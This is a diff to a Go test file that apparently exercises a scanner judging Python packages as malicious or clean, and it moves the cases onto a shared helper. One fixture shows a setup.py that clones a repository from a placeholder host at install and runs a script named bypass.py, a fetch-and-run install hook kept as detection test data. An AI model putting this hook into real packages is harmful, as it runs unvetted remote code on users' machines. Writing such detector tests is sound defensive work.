@@ -10,12 +10,7 @@ func TestStagesAndProbes(t *testing.T) {
 	if len(xmr) != 95 {
 		t.Fatalf("the example address has %d characters, want 95", len(xmr))
 	}
-	tests := []struct {
-		name  string
-		files map[string]string
-		rule  string // for a malicious one, the rule whose critical finding calls it so
-		want  Verdict
-	}{
+	tests := []verdictCase{
 		{"repository cloned and a script in it run at install", map[string]string{"setup.py": "" +
 			"import os, subprocess, git\nfrom setuptools import setup\n" +
 			"def fetch():\n    git.Repo.clone_from('https://example.invalid/u/updater.git', 'C:/Users/repo')\n    os.chdir('C:/Users/repo')\n    subprocess.run(['python', 'bypass.py'])\n" +
@@ -59,15 +54,5 @@ func TestStagesAndProbes(t *testing.T) {
 		{"a wallet library with an example address", map[string]string{"p/address.py": "" +
 			"EXAMPLE = '" + xmr + "'\ndef valid(addr):\n    return len(addr) == 95 and addr[0] in '48'\n"}, "", Clean},
 	}
-	for _, tt := range tests {
-		t.Run(tt.name, func(t *testing.T) {
-			r := sdist(t, tt.files)
-			if r.Verdict != tt.want {
-				t.Errorf("verdict %s, want %s; findings:\n%s", r.Verdict, tt.want, findingLines(r))
-			}
-			if tt.rule != "" && !hasRule(r, tt.rule, Critical) && tt.want == Malicious {
-				t.Errorf("no critical %s finding:\n%s", tt.rule, findingLines(r))
-			}
-		})
-	}
+	runVerdictCases(t, tests, nil)
 }
